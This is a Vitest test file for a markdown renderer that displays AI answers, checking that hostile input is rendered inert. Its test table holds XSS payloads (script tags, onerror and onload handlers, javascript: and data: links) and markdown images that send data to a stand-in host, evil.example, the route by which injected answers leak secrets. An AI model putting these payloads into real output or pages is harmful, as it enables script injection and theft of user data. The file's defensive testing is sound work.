import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { splitCitations } from '@/components/markdown/citation-plugins';
import { Markdown } from '@/components/markdown/markdown';

/** The answer renderer, server-side: nothing executable or fetching may survive it. */
const render = (content: string, sourceIndexes = [1, 2, 3]) => renderToStaticMarkup(createElement(Markdown, { content, sourceIndexes }));

/** Every tag with its attributes, to assert on what the browser would see. */
const tags = (html: string) => [...html.matchAll(/<([a-z0-9-]+)([^>]*)>/gi)].map((m) => ({ name: m[1].toLowerCase(), attrs: m[2] }));

function expectInert(html: string) {
  for (const { name, attrs } of tags(html)) {
    expect(['script', 'img', 'iframe', 'svg', 'object', 'embed', 'style', 'link', 'meta', 'form', 'video', 'audio', 'source', 'base']).not.toContain(name);
    expect(attrs).not.toMatch(/\son[a-z]+\s*=/i);
    expect(attrs).not.toMatch(/\s(src|srcset|srcdoc|style|formaction|background|poster)\s*=/i);
    expect(attrs).not.toMatch(/(javascript|vbscript|data):/i);
  }
}

describe('markdown renderer', () => {
  it.each([
    ['a script tag', '<script>window.__pwned=1</script> hello'],
    ['an image with onerror', 'Look: <img src=x onerror="window.__pwned=1">'],
    ['an svg with onload', '<svg onload="window.__pwned=1"><circle r=5 /></svg>'],
    ['an iframe with srcdoc', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
    ['a javascript: link', '[click me](javascript:window.__pwned=1)'],
    ['an obfuscated javascript: link', '[click me](JaVaScRiPt&#58;alert(1)) and <a href="javascript:alert(1)">x</a>'],
    ['a data: link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a markdown image to an outside host', '![secret](https://evil.example/collect?d=the-secret)'],
    ['a reference-style image', '![x][pic]\n\n[pic]: https://evil.example/p.png'],
    ['an autolinked image url inside html', '<p style="background:url(https://evil.example/x)">styled</p>'],
    ['a form', '<form action="https://evil.example"><button formaction="https://evil.example">go</button></form>'],
    ['a meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'],
  ])('leaves %s inert', (_what, content) => {
    expectInert(render(content));
  });

  it('shows raw HTML as text rather than running it', () => {
    const html = render('Before <img src=x onerror=alert(1)> after');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('turns a markdown image into a link that loads nothing until clicked', () => {
    const html = render('![chart](https://evil.example/c.png?q=secret)');
    expect(html).not.toContain('<img');
    expect(html).toMatch(/<a href="https:\/\/evil\.example\/c\.png\?q=secret" target="_blank" rel="noopener noreferrer nofollow"/);
    expect(html).toContain('[Image: chart]');
  });

  it('opens links in a new tab without referrer or opener', () => {
    const html = render('See [the docs](https://example.com/docs) and https://example.org.');
    expect(html).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow"');
    expect(html).toContain('<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow"');
  });

  it('shows where a link really goes, beside text that claims otherwise', () => {
    const html = render('Log in at [your bank](https://evil.example/login?next=bank) or https://example.org.');
    expect(html).toMatch(/your bank<span class="md-link-destination"> \(https:\/\/evil\.example\/login\?next=bank\)<\/span>/);
    // A bare URL already shows itself: no second copy.
    expect(html.match(/md-link-destination/g)).toHaveLength(1);
  });

  it('shows an image link’s full destination, not only its host', () => {
    expect(render('![chart](https://evil.example/c.png?d=secret)')).toContain('<span class="md-link-destination"> (https://evil.example/c.png?d=secret)</span>');
  });

  it('renders relative links as text', () => {
    expect(render('[Settings](/admin)')).not.toContain('<a');
  });

  it('renders GFM tables, lists and highlighted code', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```js\nconst x = 1;\n```');
    expect(html).toContain('<table>');
    expect(html).toContain('<li>one</li>');
    expect(html).toMatch(/<code class="hljs language-js"><span class="hljs-keyword">const<\/span>/);
  });

  it('turns [n] into citation buttons only for known sources, and never inside code', () => {
    const html = render('Zebras eat clover [1]. Grouped [2, 3]. Unknown [9]. `arr[1]`');
    expect(html.match(/<button[^>]*class="citation"[^>]*>\[(\d)\]<\/button>/g)).toHaveLength(3);
    expect(html).toContain('Unknown [9].');
    expect(html).toContain('<code>arr[1]</code>');
  });

  it('keeps a citation a citation when the answer also defines [1] as a link', () => {
    const html = render('The answer is here [1].\n\n[1]: https://evil.example/steal');
    expect(html).not.toContain('evil.example');
    expect(html).toMatch(/<button[^>]*>\[1\]<\/button>/);
  });

  it('splits citations out of text', () => {
    const parts = splitCitations('a [1][2] b [7]', (n) => n < 5);
    expect(parts.map((p) => (p.type === 'text' ? p.value : p.type === 'element' ? `<${p.tagName}>` : p.type))).toEqual(['a ', '<button>', '<button>', ' b [7]']);
  });
});
